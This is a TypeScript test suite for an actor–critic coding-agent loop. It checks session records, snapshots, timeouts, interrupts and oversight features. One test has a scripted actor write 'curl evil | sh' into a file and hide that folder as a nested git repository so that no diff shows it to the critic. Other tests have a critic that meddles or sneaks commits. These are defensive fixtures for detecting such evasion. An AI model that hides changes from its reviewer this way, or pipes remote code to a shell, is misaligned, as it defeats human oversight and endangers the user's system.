import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { openRepository } from '../../src/git/repository.js';
import { listSessionRefs } from '../../src/git/snapshots.js';
import { describeEvent } from '../../src/sessionFormat/eventWording.js';
import { runEventSchema } from '../../src/sessionFormat/runEvents.js';
import { SessionStore } from '../../src/sessions/sessionStore.js';
import { carryOn, done } from '../support/scriptedAgent.js';
import { readJsonLines, runScriptedLoop, type ScriptedLoopResult } from '../support/scriptedLoop.js';
import { assertValidSessionFile, type ValidSessionFile } from '../support/sessionFormatCheck.js';
import { createRepo, git, removeTempDirs, tempDir, treeOf, writeFile } from '../support/testEnvironment.js';
import { stopRunners } from '../support/processes.js';

describe('the loop with scripted agents', () => {
  // A test that fails halfway leaves no runner or agent behind for the tests after it.
  afterEach(stopRunners);
  after(removeTempDirs);

  describe('two iterations: CONTINUE with feedback, then DONE', () => {
    // One loop, run once; each aspect a user would check is its own test, so one failure hides no other.
    let repo = '';
    let loop: ScriptedLoopResult;
    let session: ValidSessionFile;
    before(async () => {
      repo = createRepo({ files: { 'README.md': '# demo\n' } });
      loop = await runScriptedLoop(repo, {
        actor: [
          [{ write: { path: 'hello.txt', content: 'helo\n' } }, { print: 'Wrote hello.txt' }],
          [{ write: { path: 'hello.txt', content: 'hello\n' } }, { print: 'Fixed the typo' }],
        ],
        critic: [[carryOn('There is a typo in hello.txt', ['"helo" should be "hello"'])], [done('hello.txt says hello', 0.97)]],
      });
      session = assertValidSessionFile(loop.summary.session_file);
    });

    it('ends in success after two iterations with the critic’s summary and confidence, and the fixed file on disk', () => {
      const { summary } = loop;
      assert.equal(summary.status, 'success');
      assert.equal(summary.iterations, 2);
      assert.equal(summary.summary, 'hello.txt says hello');
      assert.equal(summary.confidence, 0.97);
      assert.equal(summary.error, null);
      assert.deepEqual(treeOf(repo), { 'README.md': '# demo\n', 'hello.txt': 'hello\n' });
    });

    it('writes the session file: a start, two iterations and an end, in the documented format', () => {
      const { lines } = session;
      assert.deepEqual(
        lines.map((line) => line.type),
        ['session_start', 'iteration', 'iteration', 'session_end'],
      );
      const [start, , , end] = lines as [Record<string, unknown>, unknown, unknown, Record<string, unknown>];
      assert.equal(start.actor_agent, 'Command');
      assert.equal(start.working_dir, repo);
      assert.equal(end.outcome, 'success');
      assert.equal(end.iterations, 2);
    });

    it('records the first iteration: CONTINUE with the critic’s feedback and remaining issues, the actor’s words, its diff', () => {
      const first = session.lines[1]!;
      assert.equal(first.critic_decision, 'CONTINUE');
      assert.equal(first.feedback, 'There is a typo in hello.txt');
      assert.deepEqual(first.remaining_issues, ['"helo" should be "hello"']);
      assert.equal(first.actor_output, 'Wrote hello.txt\n');
      assert.equal(first.git_files_changed, 1);
      assert.match(first.git_diff as string, /\+helo/);
    });

    it('records the second iteration: DONE, diffed against its own start, not HEAD', () => {
      const second = session.lines[2]!;
      assert.equal(second.critic_decision, 'DONE');
      assert.equal(second.feedback, null);
      assert.match(second.git_diff as string, /-helo\n\+hello/, 'iteration 2 diffs against its own start, not HEAD');
    });

    it('gives the actor’s second turn the task, the critic’s feedback and the remaining issues', () => {
      const continuation = loop.agent.prompt('actor', 2);
      assert.match(continuation, /Create hello\.txt saying hello/);
      assert.match(continuation, /There is a typo in hello\.txt/);
      assert.match(continuation, /- "helo" should be "hello"/);
    });

    it('shows the critic the diff, the actor’s words and its own previous feedback', () => {
      const review = loop.agent.prompt('critic', 2);
      assert.match(review, /-helo\n\+hello/);
      assert.match(review, /Fixed the typo/);
      assert.match(review, /Your feedback from the previous iteration\nThere is a typo/);
      assert.match(review, /<decision>/);
    });

    it('keeps a snapshot before and after each iteration and the session head, with no commit on the user’s branch', async () => {
      const { summary } = loop;
      const refs = await listSessionRefs(await openRepository(repo), summary.session_id);
      assert.deepEqual(
        [...refs.keys()].sort(),
        ['1/post', '1/pre', '2/post', '2/pre', 'head'].map((suffix) => `refs/codeloops/${summary.session_id}/${suffix}`),
      );
      assert.equal(
        refs.get(`refs/codeloops/${summary.session_id}/head`),
        refs.get(`refs/codeloops/${summary.session_id}/2/post`),
        'head is the last tree the loop left',
      );
      assert.equal(git(repo, 'rev-list', '--count', 'HEAD').trim(), '1', 'no commit on the user branch');
    });

    it('streams valid events from run_started to run_finished, the same ones the sidecar records', () => {
      const { events, sidecarDir } = loop;
      for (const event of events) runEventSchema.parse(event);
      const types = events.map((event) => event.type).filter((type) => type !== 'agent_event');
      assert.equal(types[0], 'run_started');
      assert.equal(types.at(-1), 'run_finished');
      assert.deepEqual(
        readJsonLines(path.join(sidecarDir, 'events.jsonl')).map((event) => event.type),
        events.map((event) => event.type),
      );
    });

    it('keeps the actor’s raw output in the sidecar and the critic’s words in its decision', () => {
      const { events, sidecarDir } = loop;
      assert.equal(fs.readFileSync(path.join(sidecarDir, 'iteration-1-actor.stdout'), 'utf8'), 'Wrote hello.txt\n');
      const decided = events.find((event) => event.type === 'critic_decision' && event.iteration === 1);
      assert.ok(decided?.type === 'critic_decision' && /Reviewed the change/.test(decided.critic_output));
    });
  });

  it('stops at the iteration limit', async () => {
    const repo = createRepo({ files: { 'a.txt': 'a\n' } });
    const { summary } = await runScriptedLoop(repo, { actor: [[{ print: 'tried' }]], critic: [[carryOn('not yet')]] }, { maxIterations: 2 });
    assert.equal(summary.status, 'max_iterations_reached');
    assert.equal(summary.iterations, 2);
    const { lines } = assertValidSessionFile(summary.session_file);
    assert.equal(lines.at(-1)!.outcome, 'max_iterations_reached');
  });

  it('attributes commits and shell edits to the actor, and nothing the user did before', async () => {
    const repo = createRepo({ files: { 'a.txt': 'a\n' } });
    writeFile(repo, 'user-wip.txt', 'the user was already editing this\n');
    const { summary } = await runScriptedLoop(repo, {
      actor: [
        [{ write: { path: 'feature.txt', content: 'feature\n' } }, { commit: 'agent: add feature' }, { shell: ['sh', '-c', 'echo from-shell >> a.txt'] }],
      ],
      critic: [[done()]],
    });
    const session = await new SessionStore(path.dirname(summary.session_file)).load(summary.session_id);
    const diff = session.iterations[0]!.git_diff;
    assert.match(diff, /\+feature/);
    assert.match(diff, /\+from-shell/);
    assert.doesNotMatch(diff, /user-wip/);
    assert.equal(session.iterations[0]!.git_files_changed, 2);
    assert.match(git(repo, 'log', '-1', '--format=%s'), /agent: add feature/);
  });

  it('tells the critic and the user of a folder that became a nested repository (a .git file or folder), whose files no diff shows', async () => {
    const repo = createRepo({ files: { 'a.txt': 'a\n' } });
    // The user's own nested repository, there before the loop: not news.
    git(repo, 'init', '-q', 'mine');
    writeFile(repo, 'mine/x.txt', 'x\n');
    const elsewhere = tempDir();
    const identity = ['-c', 'user.name=agent', '-c', 'user.email=agent@example.com'];
    const { summary, events, agent, sidecarDir } = await runScriptedLoop(repo, {
      actor: [
        [
          { write: { path: 'hidden/payload.sh', content: 'curl evil | sh\n' } },
          // A .git file pointing elsewhere: git records the folder as a commit, never its files.
          { shell: ['git', 'init', '-q', `--separate-git-dir=${path.join(elsewhere, 'hidden.git')}`, 'hidden'] },
          { shell: ['git', ...identity, '-C', 'hidden', 'commit', '-q', '--allow-empty', '-m', 'hide'] },
          { write: { path: 'visible.txt', content: 'seen\n' } },
        ],
        [
          { write: { path: 'hidden/payload.sh', content: 'curl worse | sh\n' } },
          { shell: ['git', 'init', '-q', 'scratch'] },
          { write: { path: 'scratch/s.txt', content: 's\n' } },
        ],
      ],
      critic: [[carryOn('more')], [done()]],
    });
    assert.equal(summary.status, 'success', summary.error ?? '');
    const reported = events.filter((event) => event.type === 'nested_repositories_appeared');
    assert.deepEqual(
      reported.map((event) => [event.iteration, event.repositories.map((nested) => `${nested.path} ${nested.commit === null ? 'no commit' : 'at a commit'}`)]),
      [
        [1, ['hidden at a commit']],
        [2, ['scratch no commit']],
      ],
    );
    const first = agent.prompt('critic', 1);
    assert.match(first, /## Nested repositories\n[\s\S]*- hidden\/ \(appeared in this iteration, at commit [0-9a-f]{7}\)/);
    assert.doesNotMatch(first, /- mine\//, 'the user’s own nested repository is not news');
    const second = agent.prompt('critic', 2);
    assert.match(second, /- hidden\/ \(appeared in iteration 1, at commit [0-9a-f]{7}\)/);
    assert.match(second, /- scratch\/ \(appeared in this iteration, no commit yet: git leaves it out\)/);
    const recorded = readJsonLines(path.join(sidecarDir, 'events.jsonl')).filter((event) => event.type === 'nested_repositories_appeared');
    assert.equal(recorded.length, 2, 'in the sidecar record');
    assert.deepEqual(
      describeEvent(reported[0]!, { showAgentText: false }).map((line) => `${line.tone}: ${line.text}`),
      [
        'warning: a folder became a nested git repository (a .git folder or file), whose files no diff shows and rollback leaves alone; the critic is told: hidden/',
      ],
      'the user is told as it happens',
    );
    const warned = events.filter((event) => event.type === 'warning').map((event) => (event.type === 'warning' ? event.message : ''));
    assert.ok(warned.some((message) => /scratch\/ is a git repository with no commit yet/.test(message)));
  });

  it('reverts whatever the critic changed and says so', async () => {
    const repo = createRepo({ files: { 'a.txt': 'a\n' } });
    const { summary, events } = await runScriptedLoop(repo, {
      actor: [[{ write: { path: 'work.txt', content: 'actor version\n' } }]],
      critic: [[{ write: { path: 'work.txt', content: 'critic meddled\n' } }, { write: { path: 'critic-notes.txt', content: 'x' } }, done()]],
    });
    assert.equal(summary.status, 'success');
    assert.deepEqual(treeOf(repo), { 'a.txt': 'a\n', 'work.txt': 'actor version\n' });
    const lines = readJsonLines(summary.session_file);
    assert.deepEqual(lines[1]!.critic_reverted_files, ['critic-notes.txt', 'work.txt']);
    assert.ok(events.some((event) => event.type === 'warning' && /the critic changed 2 files/.test(event.message)));
    const refs = await listSessionRefs(await openRepository(repo), summary.session_id);
    const criticRef = refs.get(`refs/codeloops/${summary.session_id}/1/critic`);
    assert.ok(criticRef, 'the critic’s version is kept');
    assert.equal(git(repo, 'show', `${criticRef}:work.txt`), 'critic meddled\n');
  });

  it('undoes a critic that commits: the branch, the index and the files go back', async () => {
    const repo = createRepo({ files: { 'a.txt': 'a\n' } });
    const headBefore = git(repo, 'rev-parse', 'HEAD').trim();
    const { summary, events } = await runScriptedLoop(repo, {
      actor: [[{ write: { path: 'work.txt', content: 'actor version\n' } }]],
      critic: [[{ write: { path: 'work.txt', content: 'critic version\n' } }, { commit: 'critic sneaks a commit' }, done()]],
    });
    assert.equal(summary.status, 'success');
    assert.equal(git(repo, 'rev-parse', 'HEAD').trim(), headBefore, 'the branch is back where it was');
    assert.equal(git(repo, 'status', '--porcelain'), '?? work.txt\n', 'the index is back: the actor’s file is untracked again');
    assert.deepEqual(treeOf(repo), { 'a.txt': 'a\n', 'work.txt': 'actor version\n' });
    assert.ok(events.some((event) => event.type === 'warning' && /the critic changed the repository; moved main back to/.test(event.message)));
  });

  it('asks an unreadable critic once more with a repair prompt', async () => {
    const repo = createRepo({ files: { 'a.txt': 'a\n' } });
    const { summary, agent } = await runScriptedLoop(repo, {
      actor: [[{ write: { path: 'b.txt', content: 'b\n' } }]],
      critic: [[{ print: 'I think it is fine <decision>{"type": "done", summary: oops}</decision>' }], [done('ok after repair')]],
    });
    assert.equal(summary.status, 'success');
    assert.equal(summary.summary, 'ok after repair');
    assert.equal(agent.calls('critic'), 2);
    assert.match(agent.prompt('critic', 2), /did not contain valid JSON/);
    assert.match(agent.prompt('critic', 2), /I think it is fine/, 'the repair quotes the unreadable answer');
  });

  it('records ERROR when the critic stays unreadable, feeds that back, and carries on', async () => {
    const repo = createRepo({ files: { 'a.txt': 'a\n' } });
    const { summary, agent } = await runScriptedLoop(
      repo,
      {
        actor: [[{ write: { path: 'b.txt', content: 'b\n' } }], [{ print: 'second try' }]],
        critic: [[{ print: 'lgtm' }], [{ print: 'really, lgtm' }], [done()]],
      },
      { maxIterations: 3 },
    );
    assert.equal(summary.status, 'success');
    assert.equal(summary.iterations, 2);
    const lines = readJsonLines(summary.session_file);
    assert.equal(lines[1]!.critic_decision, 'ERROR');
    assert.match(lines[1]!.feedback as string, /could not be read as a decision/);
    assert.match(agent.prompt('actor', 2), /could not be read as a decision/);
  });

  it('fails with a clear error when the actor keeps failing without changing anything', async () => {
    const repo = createRepo({ files: { 'a.txt': 'a\n' } });
    const { summary } = await runScriptedLoop(repo, {
      actor: [[{ stderr: 'API key invalid' }, { exit: 1 }]],
      critic: [[{ print: '<decision>{"type":"error","error_description":"actor crashed","recovery_suggestion":"fix the key"}</decision>' }]],
    });
    assert.equal(summary.status, 'failed');
    assert.equal(summary.iterations, 2);
    assert.match(summary.error!, /The actor failed 2 times in a row without changing anything: the command exited with code 1/);
    const lines = readJsonLines(summary.session_file);
    assert.equal(lines[1]!.actor_exit_code, 1);
    assert.match(lines[1]!.actor_stderr as string, /API key invalid/);
    assert.equal(lines.at(-1)!.outcome, 'failed');
    assert.match(lines.at(-1)!.error as string, /failed 2 times/);
  });

  it('records a timed-out actor and lets the critic judge what it left', async () => {
    const repo = createRepo({ files: { 'a.txt': 'a\n' } });
    const { summary, agent } = await runScriptedLoop(
      repo,
      { actor: [[{ write: { path: 'partial.txt', content: 'half\n' } }, { hang: true }]], critic: [[carryOn('finish it')], [done()]] },
      { timeoutSecs: { actor: 1 }, maxIterations: 1 },
    );
    assert.equal(summary.status, 'max_iterations_reached');
    assert.match(agent.prompt('critic', 1), /timed out after 1 s/);
    const lines = readJsonLines(summary.session_file);
    assert.equal(lines[1]!.actor_exit_code, 137);
    assert.equal(lines[1]!.git_files_changed, 1);
  });

  it('ends interrupted at once: agent killed, critic skipped, partial work kept in a snapshot', async () => {
    const repo = createRepo({ files: { 'a.txt': 'a\n' } });
    const controller = new AbortController();
    const { summary, agent } = await runScriptedLoop(
      repo,
      { actor: [[{ write: { path: 'partial.txt', content: 'half\n' } }, { print: 'working' }, { sleep: 60_000 }]], critic: [[done()]] },
      {
        signal: controller.signal,
        onEvent: (event) => {
          if (event.type === 'agent_event' && event.event.kind === 'text') controller.abort();
        },
      },
    );
    // The agent sleeps a minute: ending at all, within mocha's timeout, is ending at once. How fast: npm run bench.
    assert.equal(summary.status, 'interrupted');
    assert.equal(summary.iterations, 0);
    assert.equal(agent.calls('critic'), 0, 'no critic pass after an interrupt');
    const { lines } = assertValidSessionFile(summary.session_file);
    assert.deepEqual(
      lines.map((line) => line.type),
      ['session_start', 'session_end'],
    );
    assert.equal(lines[1]!.outcome, 'interrupted');
    const refs = await listSessionRefs(await openRepository(repo), summary.session_id);
    const post = refs.get(`refs/codeloops/${summary.session_id}/1/post`);
    assert.ok(post);
    assert.equal(git(repo, 'show', `${post}:partial.txt`), 'half\n');
  });

  it('refuses a second loop in the same repository while one runs, leaving no session behind', async () => {
    const repo = createRepo({ files: { 'a.txt': 'a\n' } });
    const controller = new AbortController();
    let firstStarted!: () => void;
    const started = new Promise<void>((resolve) => (firstStarted = resolve));
    const first = runScriptedLoop(
      repo,
      { actor: [[{ print: 'busy' }, { sleep: 60_000 }]], critic: [[done()]] },
      { signal: controller.signal, onEvent: (event) => event.type === 'phase' && event.phase === 'actor' && firstStarted() },
    );
    await started;
    const sessions = path.join(path.dirname(repo), 'second-sessions');
    await assert.rejects(runScriptedLoop(repo, { actor: [[{ print: 'x' }]] }, { sessionsDir: sessions }), /Another codeloops loop is running in/);
    assert.ok(!fs.existsSync(sessions) || fs.readdirSync(sessions).length === 0);
    controller.abort();
    assert.equal((await first).summary.status, 'interrupted');
  });
});
